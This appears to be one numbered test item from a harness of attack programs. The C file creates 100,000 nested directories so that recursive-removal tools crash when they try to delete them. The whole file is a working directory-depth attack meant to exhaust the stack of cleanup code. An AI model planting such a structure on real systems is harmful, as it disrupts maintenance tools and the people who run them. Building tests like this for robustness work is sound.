/* Row 18: directories so deep that whoever removes them by recursion dies of it. */
#include "attack.h"

int main(void)
{
    if (chdir("/w") < 0)
        return finish_with_errno();
    for (int depth = 0; depth < 100000; depth++)
        if (mkdir("d", 0755) < 0 || chdir("d") < 0)
            return finish_with_errno();
    puts("ESCAPED 100000 levels");
    return 0;
}
